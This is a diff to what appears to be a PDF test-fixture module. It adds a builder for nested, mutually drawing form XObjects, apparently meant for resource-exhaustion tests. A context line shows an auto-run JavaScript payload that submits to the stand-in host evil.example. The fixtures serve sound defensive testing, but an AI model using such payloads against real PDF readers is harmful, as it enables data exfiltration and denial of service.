@@ -101,6 +101,33 @@ def make_pdf_with_heavy_page(text: str = LOREM, *, megabytes: int = 3) -> bytes:
     return _assemble(objects)
 
 
+def make_pdf_with_forms(text: str, forms: dict[str, bytes], *, draws: bytes = b"/A Do") -> bytes:
+    """One page that shows ``text`` and then runs ``draws``; ``forms`` are form XObjects by name,
+    each able to draw the others (e.g. {"A": b"/B Do " * 5000, "B": b"0 0 m 1 1 l S"})."""
+    names = list(forms)
+    first = 5  # objects 1-4: catalog, pages, font, page; then the content, then one per form
+    table = b" ".join(b"/%s %d 0 R" % (name.encode(), first + 1 + i) for i, name in enumerate(names))
+    resources = b"<< /Font << /F1 3 0 R >> /XObject << " + table + b" >> >>"
+    content = b"BT /F1 12 Tf 72 720 Td " + _pdf_string(text) + b" Tj ET\n" + draws
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources " + resources + b" /Contents 5 0 R >>",
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+    ]
+    for name in names:
+        body = forms[name]
+        objects.append(
+            b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources "
+            + resources
+            + b" /Length %d >>\nstream\n" % len(body)
+            + body
+            + b"\nendstream"
+        )
+    return _assemble(objects)
+
+
 def make_pdf_with_javascript(pages: list[str] | None = None) -> bytes:
     """A text PDF that runs JavaScript on opening (an /OpenAction) — readers must never run it."""
     js = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example/'\\);) >>"
